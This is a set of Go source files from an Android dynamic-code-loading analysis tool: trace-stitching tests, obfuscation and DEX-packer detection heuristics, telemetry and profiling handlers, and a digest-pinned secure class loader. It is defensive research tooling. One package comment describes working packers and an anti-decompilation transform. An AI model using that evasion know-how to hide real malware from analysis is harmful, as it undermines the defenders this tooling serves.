		body, _ := io.ReadAll(tresp.Body)
		tresp.Body.Close()
		t.Fatalf("stitched trace: %d %s", tresp.StatusCode, body)
	}
	if got := tresp.Header.Get("X-Dydroid-Node"); got != ts1.URL {
		t.Fatalf("trace stitched from %q, want %s", got, ts1.URL)
	}
	var tr trace.Trace
	if err := json.NewDecoder(tresp.Body).Decode(&tr); err != nil {
		t.Fatal(err)
	}
	tresp.Body.Close()

	if tr.ID != trace.IDFromDigest(digest) {
		t.Fatalf("trace ID = %q, want digest-derived %q", tr.ID, trace.IDFromDigest(digest))
	}
	if tr.Root.Name != "route" || tr.Root.Attr("digest") != digest {
		t.Fatalf("root = %q digest=%q", tr.Root.Name, tr.Root.Attr("digest"))
	}
	if got := tr.Root.Attr("owner"); got != ts0.URL {
		t.Fatalf("route owner attr = %q, want the original owner %s", got, ts0.URL)
	}

	var attempts []*trace.Span
	tr.Root.Walk(func(sp *trace.Span) {
		if sp.Name == "attempt" {
			attempts = append(attempts, sp)
		}
	})
	if len(attempts) != 2 {
		t.Fatalf("stitched tree has %d attempt spans, want 2", len(attempts))
	}
	failed, won := attempts[0], attempts[1]
	if failed.Attr("node") != ts0.URL || failed.Err == "" {
		t.Fatalf("first attempt node=%q err=%q — the failed attempt must carry its error",
			failed.Attr("node"), failed.Err)
	}
	if won.Attr("node") != ts1.URL || won.Err != "" {
		t.Fatalf("second attempt node=%q err=%q", won.Attr("node"), won.Err)
	}
	if won.Attr("failover.reason") == "" {
		t.Fatal("successor attempt records no failover.reason")
	}
	if won.Attr("status") != "202" && won.Attr("status") != "200" {
		t.Fatalf("successor attempt status = %q", won.Attr("status"))
	}

	// The worker's analysis subtree hangs under the winning attempt span
	// — matched by the span ID that traveled in X-Dydroid-Parent.
	var scan *trace.Span
	for _, ch := range won.Children {
		if ch.Name == "scan" {
			scan = ch
		}
	}
	if scan == nil {
		t.Fatalf("no worker scan subtree grafted under the winning attempt: %+v", won.Children)
	}
	if got := scan.Attr(trace.AttrParentSpan); got != won.ID {
		t.Fatalf("grafted scan parent.span = %q, want attempt ID %q", got, won.ID)
	}
	if got := scan.Attr(trace.AttrParentTrace); got != tr.ID {
		t.Fatalf("grafted scan parent.trace = %q, want %q", got, tr.ID)
	}
	if scan.Find("analyze") == nil {
		t.Fatal("grafted worker subtree has no analyze span")
	}

	// The reroute is journaled: federated /v1/events names the dead node
	// and the digest.
	evs := fetchClusterEvents(t, cts.URL)
	fo := findEvent(evs, events.ScanFailover, ts0.URL)
	if fo == nil || fo.Digest != digest {
		t.Fatalf("no scan-failover event for %s/%s: %+v", ts0.URL, digest, evs)
	}

	// CI keeps the rendered cross-node tree and the timeline as artifacts.
	if path := os.Getenv("CLUSTER_TRACE_ARTIFACT"); path != "" {
		var buf strings.Builder
		trace.Render(&buf, &tr)
		if err := os.WriteFile(path, []byte(buf.String()), 0o644); err != nil {
			t.Fatalf("write trace artifact: %v", err)
		}
	}
	if path := os.Getenv("CLUSTER_EVENTS_ARTIFACT"); path != "" {
		var buf strings.Builder
		events.EncodeJSONL(&buf, evs)
		if err := os.WriteFile(path, []byte(buf.String()), 0o644); err != nil {
			t.Fatalf("write events artifact: %v", err)
		}
	}
}

// TestCoordinatorTraceWithoutFailover: on the healthy path the stitched
// tree has exactly one attempt and the worker subtree under it — and a
// worker-direct trace read through the coordinator still works when the
// coordinator itself never routed the scan (no route trace stored).
func TestCoordinatorTraceWithoutFailover(t *testing.T) {
	_, wts := realWorker(t, core.NewAnalyzer(core.Options{}), 16)
	coord, err := New(Config{Nodes: []string{wts.URL}, ProbeInterval: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	data := tinyAPK(t, "com.stitch.healthy")
	digest, err := apk.SigningDigest(data)
	if err != nil {
		t.Fatal(err)
	}

	// Scan submitted directly to the worker: the coordinator has no route
	// trace, so /v1/trace relays the worker tree unstitched.
	direct := scanAll(t, wts.URL, [][]byte{data})
	awaitAll(t, wts.URL, direct)
	tresp, err := http.Get(cts.URL + "/v1/trace/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	var unstitched trace.Trace
	if err := json.NewDecoder(tresp.Body).Decode(&unstitched); err != nil {
		t.Fatal(err)
	}
	tresp.Body.Close()
	if unstitched.Root.Name != "scan" {
		t.Fatalf("worker-direct trace root = %q, want scan", unstitched.Root.Name)
	}

	// Scan routed through the coordinator: one attempt, worker tree
	// grafted under it.
	data2 := tinyAPK(t, "com.stitch.routed")
	digest2, err := apk.SigningDigest(data2)
	if err != nil {
		t.Fatal(err)
	}
	routed := scanAll(t, cts.URL, [][]byte{data2})
	if routed[0] != digest2 {
		t.Fatalf("digest mismatch: %s vs %s", routed[0], digest2)
	}
	awaitAll(t, cts.URL, routed)
	tresp, err = http.Get(cts.URL + "/v1/trace/" + digest2)
	if err != nil {
		t.Fatal(err)
	}
	var tr trace.Trace
	if err := json.NewDecoder(tresp.Body).Decode(&tr); err != nil {
		t.Fatal(err)
	}
	tresp.Body.Close()
	if tr.Root.Name != "route" {
		t.Fatalf("routed trace root = %q, want route", tr.Root.Name)
	}
	var attempts int
	var scan *trace.Span
	tr.Root.Walk(func(sp *trace.Span) {
		switch sp.Name {
		case "attempt":
			attempts++
			if sp.Err != "" {
				t.Fatalf("healthy attempt carries error %q", sp.Err)
			}
		case "scan":
			scan = sp
		}
	})
	if attempts != 1 || scan == nil {
		t.Fatalf("healthy stitched tree: %d attempts, scan subtree present=%v", attempts, scan != nil)
	}
	if scan.Find("analyze") == nil {
		t.Fatal("grafted subtree lost the analyze span")
	}
}
