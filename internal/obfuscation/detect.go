// Package obfuscation implements both sides of the paper's §III-D
// obfuscation study: detectors for the five techniques of Table VI
// (lexical obfuscation, reflection, native code, DEX encryption/loading,
// anti-decompilation) and working obfuscators that apply them — a
// ProGuard-style lexical renamer, a Bangcle-style DEX-encryption packer
// with a native decryptor stub, and an anti-decompilation transform
// exploiting the decompiler bug.
package obfuscation

import (
	"strings"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/words"
)

// Technique names, in Table VI row order.
const (
	TechLexical       = "Lexical"
	TechReflection    = "Reflection"
	TechNative        = "Native"
	TechDEXEncryption = "DEX encryption"
	TechAntiDecompile = "Anti-decompilation"
)

// AllTechniques lists the measured techniques in Table VI order.
var AllTechniques = []string{
	TechLexical, TechReflection, TechNative, TechDEXEncryption, TechAntiDecompile,
}

// LexicalThreshold is the meaningful-identifier fraction below which an
// app counts as lexically obfuscated.
const LexicalThreshold = 0.5

// Report is the per-app obfuscation assessment.
type Report struct {
	Lexical       bool
	Reflection    bool
	Native        bool
	DEXEncryption bool
	AntiDecompile bool
	// MeaningfulFraction is the lexical score that produced Lexical.
	MeaningfulFraction float64
}

// Has returns the flag for a technique name.
func (r Report) Has(tech string) bool {
	switch tech {
	case TechLexical:
		return r.Lexical
	case TechReflection:
		return r.Reflection
	case TechNative:
		return r.Native
	case TechDEXEncryption:
		return r.DEXEncryption
	case TechAntiDecompile:
		return r.AntiDecompile
	default:
		return false
	}
}

// Detector runs the obfuscation analysis. The zero value uses the default
// dictionary and decompiler.
type Detector struct {
	// Dict overrides the word database (nil = embedded default).
	Dict *words.DB
	// Tool overrides the decompiler used for the anti-decompilation probe.
	Tool apktool.Tool
}

func (d *Detector) dict() *words.DB {
	if d.Dict != nil {
		return d.Dict
	}
	return words.Default()
}

// Analyze assesses one APK (raw archive bytes). A decompiler crash yields
// an anti-decompilation report with all bytecode-dependent flags false —
// matching the measurement, where such apps fail reverse engineering
// entirely.
func (d *Detector) Analyze(apkBytes []byte) (Report, error) {
	u, err := d.Tool.Unpack(apkBytes)
	if err != nil {
		if isDecompileErr(err) {
			return Report{AntiDecompile: true}, nil
		}
		return Report{}, err
	}
	return d.AnalyzeUnpacked(u), nil
}

func isDecompileErr(err error) bool {
	return err != nil && strings.Contains(err.Error(), "decompilation failed")
}

// AnalyzeUnpacked assesses an already-unpacked app.
func (d *Detector) AnalyzeUnpacked(u *apktool.Unpacked) Report {
	var r Report
	if u.Dex != nil {
		// Framework-override names (onCreate, onClick*, ...) cannot be
		// renamed by ProGuard, so they carry no signal about developer
		// naming; judge only the renameable identifiers.
		var ids []string
		for _, id := range dex.Identifiers(u.Dex) {
			if strings.HasPrefix(id, "on") {
				continue
			}
			ids = append(ids, id)
		}
		r.MeaningfulFraction = d.dict().MeaningfulFraction(ids)
		r.Lexical = r.MeaningfulFraction < LexicalThreshold
		r.Reflection = usesReflection(u.Dex)
	}
	r.Native = len(u.APK.NativeLibs) > 0 || invokesNativeLoad(u.Dex)
	r.DEXEncryption = d.detectPacker(u)
	return r
}

// usesReflection reports any java.lang.reflect usage or the
// Class.forName/getMethod bootstrap.
func usesReflection(df *dex.File) bool {
	for _, ref := range df.InvokedRefs() {
		if strings.HasPrefix(ref.Class, "java.lang.reflect.") {
			return true
		}
		if ref.Class == "java.lang.Class" &&
			(ref.Name == "forName" || ref.Name == "getMethod" || ref.Name == "getDeclaredMethod") {
			return true
		}
	}
	return false
}

// invokesNativeLoad reports JNI load entry point usage in the bytecode.
func invokesNativeLoad(df *dex.File) bool {
	if df == nil {
		return false
	}
	for _, ref := range df.InvokedRefs() {
		if (ref.Class == "java.lang.System" && (ref.Name == "loadLibrary" || ref.Name == "load")) ||
			(ref.Class == "java.lang.Runtime" && ref.Name == "load0") {
			return true
		}
	}
	return false
}

// detectPacker applies the paper's three-rule DEX-encryption
// identification (§III-D):
//
//  1. android:name is set and a class loader is instantiated in that
//     class;
//  2. not every manifest component is present in the decompiled code, and
//     a bytecode-capable file exists locally;
//  3. the container loads a local native library through the JNI (the
//     decryptor lives in native code).
func (d *Detector) detectPacker(u *apktool.Unpacked) bool {
	appClass := u.APK.Manifest.Application.Name
	if appClass == "" || u.Dex == nil {
		return false
	}
	container := u.Dex.FindClass(appClass)
	if container == nil {
		return false
	}
	// Rule 1: class loader created inside the container class.
	if !classCreatesLoader(container) {
		return false
	}
	// Rule 2a: some declared component missing from decompiled code.
	missing := false
	for _, comp := range u.APK.Manifest.Components() {
		if u.Dex.FindClass(comp.Name) == nil {
			missing = true
			break
		}
	}
	if !missing {
		return false
	}
	// Rule 2b: a local file in a bytecode-capable format.
	if !hasBytecodeCapableAsset(u.APK) {
		return false
	}
	// Rule 3: container invokes the JNI to load a local .so.
	return classLoadsNative(container) && len(u.APK.NativeLibs) > 0
}

func classCreatesLoader(c *dex.Class) bool {
	for _, m := range c.Methods {
		for _, in := range m.Code {
			if in.Op == dex.OpNewInstance &&
				(in.Str == "dalvik.system.DexClassLoader" || in.Str == "dalvik.system.PathClassLoader") {
				return true
			}
			if in.Op.IsInvoke() && in.Method.Name == "<init>" &&
				(in.Method.Class == "dalvik.system.DexClassLoader" || in.Method.Class == "dalvik.system.PathClassLoader") {
				return true
			}
		}
	}
	return false
}

func classLoadsNative(c *dex.Class) bool {
	for _, m := range c.Methods {
		for _, in := range m.Code {
			if !in.Op.IsInvoke() {
				continue
			}
			if (in.Method.Class == "java.lang.System" && (in.Method.Name == "loadLibrary" || in.Method.Name == "load")) ||
				(in.Method.Class == "java.lang.Runtime" && in.Method.Name == "load0") {
				return true
			}
		}
	}
	return false
}

// bytecodeExtensions are formats that can carry loadable bytecode
// (paper §II).
var bytecodeExtensions = []string{".dex", ".jar", ".apk", ".zip", ".odex", ".enc", ".dat", ".bin"}

func hasBytecodeCapableAsset(a *apk.APK) bool {
	for name := range a.Assets {
		lower := strings.ToLower(name)
		for _, ext := range bytecodeExtensions {
			if strings.HasSuffix(lower, ext) {
				return true
			}
		}
	}
	return false
}

// StaticDCLFilter is the pre-filter of the pipeline (Fig. 1): it reports
// whether the decompiled IR contains DEX-loading or native-loading code at
// all — existence, not reachability (paper §III-A).
type StaticDCLFilter struct {
	// HasDexDCL is true when a class loader construction appears.
	HasDexDCL bool
	// HasNativeDCL is true when a JNI load call or bundled .so appears.
	HasNativeDCL bool
}

// PreFilter scans an unpacked app for DCL-related code.
func PreFilter(u *apktool.Unpacked) StaticDCLFilter {
	var f StaticDCLFilter
	if u.Dex != nil {
		for _, c := range u.Dex.Classes {
			if classCreatesLoader(c) {
				f.HasDexDCL = true
			}
			if classLoadsNative(c) {
				f.HasNativeDCL = true
			}
			if f.HasDexDCL && f.HasNativeDCL {
				break
			}
		}
	}
	if len(u.APK.NativeLibs) > 0 {
		f.HasNativeDCL = true
	}
	return f
}
