package service

import (
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"time"

	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/telemetry"
)

// handleProfiles serves the profile ring's index, newest first — the
// same rows `apkinspect profile` renders and the coordinator federates
// across members.
func (s *Server) handleProfiles(w http.ResponseWriter, r *http.Request) {
	metas := s.cfg.Profiles.Index()
	if metas == nil {
		metas = []profile.Meta{}
	}
	writeJSON(w, http.StatusOK, metas)
}

// handleProfile serves one captured window: the full JSON form by
// default (summary + base64 pprof bytes), or the raw pprof protobuf
// with ?format=pprof — directly loadable by `go tool pprof`.
func (s *Server) handleProfile(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	win := s.cfg.Profiles.Get(id)
	if win == nil {
		httpError(w, http.StatusNotFound, "unknown profile window")
		return
	}
	if r.URL.Query().Get("format") == "pprof" {
		if len(win.Pprof) == 0 {
			httpError(w, http.StatusNotFound, "window has no pprof bytes")
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition",
			fmt.Sprintf("attachment; filename=%q", win.ID+".pb.gz"))
		w.Write(win.Pprof)
		return
	}
	writeJSON(w, http.StatusOK, win)
}

// sloTriggers fires the SLO-alert capture path: every objective whose
// burn-rate alert is firing at now requests a window tagged with the
// analysis that tipped it. The recorder's per-trigger cooldown keeps a
// sustained burn from monopolizing the ring.
func (s *Server) sloTriggers(digest string) {
	if s.cfg.Profiles == nil {
		return
	}
	for _, rep := range s.cfg.Fleet.SLOReports(s.now()) {
		if rep.Alert == telemetry.AlertOK {
			continue
		}
		s.cfg.Profiles.TryTrigger(profile.TriggerSLOPrefix+rep.Name, digest, TraceID(digest))
	}
}

// writeCostProm appends the per-stage resource-attribution gauges to a
// Prometheus exposition, one labelled series per metered pipeline stage.
func (s *Server) writeCostProm(w io.Writer) {
	costs := s.cfg.Fleet.Snapshot().Costs
	if len(costs) == 0 {
		return
	}
	names := make([]string, 0, len(costs))
	for name := range costs {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, g := range []struct {
		metric string
		value  func(*telemetry.StageCost) int64
	}{
		{"dydroid_stage_cost_spans", func(c *telemetry.StageCost) int64 { return c.Count }},
		{"dydroid_stage_cost_cpu_seconds", nil}, // rendered as float below
		{"dydroid_stage_cost_alloc_bytes", func(c *telemetry.StageCost) int64 { return c.AllocBytes }},
		{"dydroid_stage_cost_alloc_objects", func(c *telemetry.StageCost) int64 { return c.AllocObjects }},
	} {
		fmt.Fprintf(w, "# TYPE %s gauge\n", g.metric)
		for _, name := range names {
			c := costs[name]
			if g.value == nil {
				fmt.Fprintf(w, "%s{stage=%q} %g\n", g.metric, name,
					float64(c.CPUNS)/float64(time.Second))
				continue
			}
			fmt.Fprintf(w, "%s{stage=%q} %d\n", g.metric, name, g.value(c))
		}
	}
}

// profileTiles summarizes the recorder for the dashboard header tiles:
// retained window count plus the newest window's trigger and hottest
// function.
func (s *Server) profileTiles() []telemetry.KV {
	metas := s.cfg.Profiles.Index()
	if len(metas) == 0 {
		return nil
	}
	tiles := []telemetry.KV{
		{Key: "profile windows", Value: strconv.Itoa(len(metas))},
	}
	newest := metas[0]
	tiles = append(tiles, telemetry.KV{Key: "last profile", Value: newest.Trigger})
	if newest.TopFunc != "" {
		tiles = append(tiles, telemetry.KV{Key: "hottest function", Value: newest.TopFunc})
	}
	return tiles
}
