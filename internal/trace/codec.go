package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
)

// EncodeJSONL writes each trace as one compact JSON object per line —
// the interchange format of the experiments runner's -trace directory
// and of the on-disk store (a stored trace is a one-line JSONL file).
func EncodeJSONL(w io.Writer, traces ...*Trace) error {
	enc := json.NewEncoder(w)
	for _, t := range traces {
		if t == nil {
			continue
		}
		if err := enc.Encode(t); err != nil {
			return fmt.Errorf("trace: encode %s: %w", t.ID, err)
		}
	}
	return nil
}

// DecodeJSONL reads every trace from a JSONL stream. Blank lines are
// skipped; a malformed line fails the decode with its line number.
func DecodeJSONL(r io.Reader) ([]*Trace, error) {
	var out []*Trace
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 16<<20)
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		t := new(Trace)
		if err := json.Unmarshal(raw, t); err != nil {
			return nil, fmt.Errorf("trace: line %d: %w", line, err)
		}
		if t.Root == nil {
			return nil, fmt.Errorf("trace: line %d: trace %q has no root span", line, t.ID)
		}
		out = append(out, t)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("trace: %w", err)
	}
	return out, nil
}
