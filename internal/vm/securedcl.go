package vm

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"
)

// SecureLoaderClass is the drop-in secure class loader of Falsina et
// al.'s Grab'n Run (ACSAC 2015), which the paper cites as the proposed
// fix for the Table IX code-injection vulnerabilities: the developer
// pins the expected digest of the code to be loaded, and the loader
// refuses anything else. Constructor signature:
//
//	SecureDexClassLoader(dexPath, optimizedDir, libSearchPath, parent,
//	                     expectedSHA256Hex)
//
// The construction still fires the DCL hook — DyDroid observes secure
// loads like any other — but a digest mismatch raises a
// SecurityException before any byte of the file is interpreted.
const SecureLoaderClass = "it.necst.grabnrun.SecureDexClassLoader"

func (m *VM) sysSecureDexClassLoaderInit(args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	if self == nil {
		return Null, true, fmt.Errorf("%w: SecureDexClassLoader.<init> without receiver", ErrAppCrash)
	}
	dexPath := argString(args, 1)
	optDir := argString(args, 2)
	expected := strings.ToLower(argString(args, 5))
	m.Hooks.OnClassLoaderInit(LoaderDex, dexPath, optDir, m.StackTrace())
	for _, path := range strings.Split(dexPath, ":") {
		if path == "" {
			continue
		}
		data, err := m.Device.Storage.ReadFile(path)
		if err != nil {
			return Null, true, fmt.Errorf("%w: %w", ErrAppCrash, err)
		}
		sum := sha256.Sum256(data)
		if got := hex.EncodeToString(sum[:]); got != expected {
			return Null, true, fmt.Errorf("%w: SecurityException: %s digest %s does not match pinned %s",
				ErrAppCrash, path, got[:12], truncDigest(expected))
		}
	}
	cl, err := m.newClassLoader(LoaderDex, dexPath, optDir, parentLoader(args, 4))
	if err != nil {
		return Null, true, fmt.Errorf("%w: %w", ErrAppCrash, err)
	}
	self.Native = cl
	return Null, true, nil
}

func truncDigest(d string) string {
	if len(d) > 12 {
		return d[:12]
	}
	return d
}
