package core

import (
	"context"
	"testing"

	"github.com/dydroid/dydroid/internal/trace"
)

// TestAnalyzeProducesTrace: every analysis carries a span tree whose root
// covers all executed pipeline stages, with DCL events attached to the
// dynamic span.
func TestAnalyzeProducesTrace(t *testing.T) {
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")
	apkBytes := adSDKApp(t, "com.fun.game", payload)
	an := NewAnalyzer(Options{Seed: 1})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	tr := res.Trace
	if tr == nil || tr.Root == nil {
		t.Fatal("analysis produced no trace")
	}
	if tr.Root.Name != "analyze" {
		t.Fatalf("root span = %q, want analyze", tr.Root.Name)
	}
	if tr.Root.Duration() <= 0 {
		t.Fatalf("root duration = %s", tr.Root.Duration())
	}
	if got := tr.Root.Attr("package"); got != "com.fun.game" {
		t.Fatalf("root package attr = %q", got)
	}
	if got := tr.Root.Attr("status"); got != string(StatusExercised) {
		t.Fatalf("root status attr = %q", got)
	}
	for _, name := range []string{"unpack", "dynamic", "static", "interception"} {
		s := tr.Root.Find(name)
		if s == nil {
			t.Fatalf("stage span %q missing", name)
		}
		if s.EndAt.IsZero() {
			t.Fatalf("stage span %q never ended", name)
		}
		if s.Duration() > tr.Root.Duration() {
			t.Fatalf("stage %q duration %s exceeds root %s", name, s.Duration(), tr.Root.Duration())
		}
	}
	// Interception nests under the dynamic stage.
	if tr.Root.Find("dynamic").Find("interception") == nil {
		t.Fatal("interception span not a child of dynamic")
	}
	// One kept DCL event → one "dcl" event with loader attribution.
	dyn := tr.Root.Find("dynamic")
	var dcl *trace.Event
	for i := range dyn.Events {
		if dyn.Events[i].Name == "dcl" {
			dcl = &dyn.Events[i]
		}
	}
	if dcl == nil {
		t.Fatalf("dynamic span has no dcl event: %+v", dyn.Events)
	}
	attrs := map[string]string{}
	for _, a := range dcl.Attrs {
		attrs[a.Key] = a.Value
	}
	for _, key := range []string{"kind", "api", "path", "entity", "provenance"} {
		if attrs[key] == "" {
			t.Fatalf("dcl event missing %q attr: %+v", key, dcl.Attrs)
		}
	}
	if attrs["entity"] != string(EntityThirdParty) || attrs["provenance"] != string(ProvenanceLocal) {
		t.Fatalf("dcl event attribution wrong: %+v", attrs)
	}
}

// TestAnalyzeJoinsCallerTrace: AnalyzeAPKContext attaches its analyze
// span under the caller's active span instead of opening a new trace.
func TestAnalyzeJoinsCallerTrace(t *testing.T) {
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")
	apkBytes := adSDKApp(t, "com.fun.game", payload)
	parent := trace.New("app", trace.WithDigest("aabbcc"))
	ctx := trace.ContextWith(context.Background(), parent)
	an := NewAnalyzer(Options{Seed: 1})
	res, err := an.AnalyzeAPKContext(ctx, apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Trace != parent {
		t.Fatal("result trace is not the caller's trace")
	}
	if parent.Root.Find("analyze") == nil {
		t.Fatal("analyze span not joined under caller root")
	}
	if parent.Root.Find("dynamic") == nil {
		t.Fatal("stage spans not joined under caller root")
	}
	if parent.Digest != "aabbcc" {
		t.Fatalf("digest clobbered: %q", parent.Digest)
	}
}

// TestAnalyzeTraceOnFailure: a failed analysis still ends the root span
// with its error recorded.
func TestAnalyzeTraceOnFailure(t *testing.T) {
	parent := trace.New("app")
	ctx := trace.ContextWith(context.Background(), parent)
	an := NewAnalyzer(Options{Seed: 1})
	if _, err := an.AnalyzeAPKContext(ctx, []byte("not an apk")); err == nil {
		t.Fatal("garbage APK analyzed without error")
	}
	s := parent.Root.Find("analyze")
	if s == nil {
		t.Fatal("no analyze span for failed run")
	}
	if s.EndAt.IsZero() || s.Err == "" {
		t.Fatalf("failed span not closed with error: end=%v err=%q", s.EndAt, s.Err)
	}
}
