package core

import (
	"sync"

	"github.com/dydroid/dydroid/internal/netsim"
)

// Tracker is the download tracker: it implements netsim.Recorder,
// accumulating the object-flow graph whose edges are the Table I rules,
// and answers provenance queries by searching for a path from a URL
// object to a File object bound to the loaded path (paper §III-B: "In the
// data flow graph, we search the paths from a URL to a File").
type Tracker struct {
	mu sync.Mutex
	// urls maps URL objects to their spec strings.
	urls map[netsim.ObjectID]string
	// rev holds reverse edges (to -> froms) for backward search from files.
	rev map[netsim.ObjectID][]netsim.ObjectID
	// binds maps storage paths to the File objects bound to them.
	binds map[string][]netsim.ObjectID
	// bindPath is the reverse of binds: every File object's path. The
	// provenance search treats same-path File objects as aliases — a
	// java.io.File constructed over an already-downloaded path must
	// inherit its history (the paper identifies objects by type+hashcode,
	// and path is the join key between them).
	bindPath map[netsim.ObjectID]string
	// flowCount counts edges for reporting.
	flowCount int
}

// NewTracker creates an empty tracker.
func NewTracker() *Tracker {
	return &Tracker{
		urls:     make(map[netsim.ObjectID]string),
		rev:      make(map[netsim.ObjectID][]netsim.ObjectID),
		binds:    make(map[string][]netsim.ObjectID),
		bindPath: make(map[netsim.ObjectID]string),
	}
}

// RecordURLInit implements netsim.Recorder.
func (t *Tracker) RecordURLInit(obj netsim.ObjectID, url string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.urls[obj] = url
}

// RecordFlow implements netsim.Recorder.
func (t *Tracker) RecordFlow(from, to netsim.ObjectID) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.rev[to] = append(t.rev[to], from)
	t.flowCount++
}

// RecordFileBind implements netsim.Recorder.
func (t *Tracker) RecordFileBind(obj netsim.ObjectID, path string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.binds[path] = append(t.binds[path], obj)
	t.bindPath[obj] = path
}

// FlowCount returns the number of recorded flow edges.
func (t *Tracker) FlowCount() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.flowCount
}

// Provenance classifies the origin of the file at path: if any File
// object bound to the path is reachable (backwards) from a URL object,
// the load is remote and the URL is returned.
func (t *Tracker) Provenance(path string) (Provenance, string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	start := t.binds[path]
	if len(start) == 0 {
		return ProvenanceLocal, ""
	}
	seen := make(map[netsim.ObjectID]bool)
	stack := append([]netsim.ObjectID(nil), start...)
	for len(stack) > 0 {
		n := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if seen[n] {
			continue
		}
		seen[n] = true
		if url, ok := t.urls[n]; ok {
			return ProvenanceRemote, url
		}
		stack = append(stack, t.rev[n]...)
		// Alias closure: every File object bound to the same path shares
		// the history (a fresh java.io.File over a downloaded path).
		if p, ok := t.bindPath[n]; ok {
			stack = append(stack, t.binds[p]...)
		}
	}
	return ProvenanceLocal, ""
}

// Annotate fills Provenance and SourceURL on every event.
func (t *Tracker) Annotate(events []*DCLEvent) {
	for _, ev := range events {
		ev.Provenance, ev.SourceURL = t.Provenance(ev.Path)
	}
}
