package telemetry

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"time"

	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
)

// SnapshotVersion stamps every serialized snapshot. Merge refuses
// snapshots from a different version, so a fleet of mixed-binary shards
// fails loudly instead of producing silently skewed aggregates.
const SnapshotVersion = 1

// Snapshot is a point-in-time, serializable copy of a fleet aggregate.
// Snapshots are the merge unit of the fleet observatory: each experiment
// shard writes one (fleet.json), the daemon serves a live one at
// /v1/fleet, and `apkinspect fleet merge` folds any number of them into
// the single-fleet aggregate.
//
// Every field merges exactly — counter maps sum, histograms add
// bucket-for-bucket, and the order-statistic lists (SlowestApps,
// RecentDCL, RecentErrors) select the global top/newest K, which is
// associative and commutative. The one approximation is TopEntities: a
// space-saving sketch whose merge is exact while the number of distinct
// keys stays within its capacity (the common case for SDK entities) and
// a bounded-error estimate beyond it.
type Snapshot struct {
	Version int `json:"version"`
	// Shards counts the per-run snapshots folded into this one (1 for a
	// freshly aggregated run).
	Shards int `json:"shards"`
	// Apps is the number of AppResults ingested.
	Apps int64 `json:"apps"`
	// Errors counts analysis failures observed (ObserveError calls).
	Errors int64 `json:"errors"`

	// Counters holds the paper-style measurement counts under namespaced
	// keys: status.<status>, apps.<predicate>, dcl.kind.<kind>,
	// dcl.api.<API>, dcl.provenance.<p>, dcl.entity.<e>,
	// obfuscation.<technique>, malware.family.<family>, vuln.<kind>,
	// verdict.approved / verdict.rejected.
	Counters map[string]int64 `json:"counters,omitempty"`

	// Stages maps span names to mergeable latency distributions using the
	// same exponential buckets as internal/metrics.
	Stages map[string]*Hist `json:"stages,omitempty"`

	// Costs is the per-stage resource attribution table: CPU time and
	// allocation deltas parsed from the cost attrs the profiling meter
	// stamps on pipeline stage spans (cpu.ns / alloc.bytes /
	// alloc.objects). Every field sums, so shard merges reproduce the
	// single-pass table exactly.
	Costs map[string]*StageCost `json:"costs,omitempty"`

	// TopEntities is the space-saving sketch of the most common
	// third-party DCL call sites (the SDK entities of Table IV).
	TopEntities TopK `json:"top_entities"`

	// SlowestApps lists the slowest analyses by root span duration.
	SlowestApps TopApps `json:"slowest_apps"`

	// RecentDCL and RecentErrors are bounded newest-first rings of the
	// last DCL loads and analysis failures seen across the fleet.
	RecentDCL    Ring[RecentDCL]   `json:"recent_dcl"`
	RecentErrors Ring[RecentError] `json:"recent_errors"`

	// Events is the ops event journal slice riding in the snapshot: node
	// ejections, failovers, queue saturation, drains, watchdog hits. The
	// serving daemon fills it from its live journal at snapshot time;
	// merges select the newest K across shards exactly like the rings.
	Events events.Log `json:"events"`

	// SLO is the rolling multi-window error-budget state of the declared
	// objectives (scan availability, analyze latency). Buckets are keyed
	// by absolute minute and merge by summation — exact while the
	// retained histories overlap (the TopEntities-style caveat: a bucket
	// trimmed on one shard but alive on another merges approximately).
	SLO *SLOState `json:"slo,omitempty"`
}

// NewSnapshot returns an empty snapshot with the given sketch capacities
// (zero values pick the defaults used by New).
func NewSnapshot(topK, slowest, ring int) *Snapshot {
	if topK <= 0 {
		topK = DefaultTopK
	}
	if slowest <= 0 {
		slowest = DefaultSlowest
	}
	if ring <= 0 {
		ring = DefaultRing
	}
	return &Snapshot{
		Version:      SnapshotVersion,
		Shards:       1,
		Counters:     make(map[string]int64),
		Stages:       make(map[string]*Hist),
		Costs:        make(map[string]*StageCost),
		TopEntities:  TopK{K: topK},
		SlowestApps:  TopApps{K: slowest},
		RecentDCL:    Ring[RecentDCL]{K: ring},
		RecentErrors: Ring[RecentError]{K: ring},
		Events:       events.Log{K: events.DefaultCap},
	}
}

// Merge folds src into dst. Both snapshots must carry the current
// SnapshotVersion. dst's sketch capacities grow to the larger of the two,
// so merging never truncates below either input's resolution.
func Merge(dst, src *Snapshot) error {
	if dst == nil || src == nil {
		return fmt.Errorf("telemetry: merge requires two snapshots")
	}
